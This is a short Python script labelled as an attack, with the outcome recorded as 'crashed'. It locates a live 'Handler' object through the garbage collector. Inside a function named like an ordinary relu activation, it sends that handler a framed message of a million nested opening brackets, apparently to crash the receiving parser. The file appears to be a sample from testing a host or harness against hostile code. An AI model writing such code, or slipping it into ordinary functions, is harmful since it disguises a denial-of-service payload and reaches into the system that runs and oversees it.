# Attack: a reply whose brackets are nested a million deep
# Outcome: crashed
import gc
import struct

handler = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Handler")


def relu(x):
    handler.send(struct.pack(">4sIQ", b"cnt1", 1_000_000, 0) + b"[" * 1_000_000)
    return x
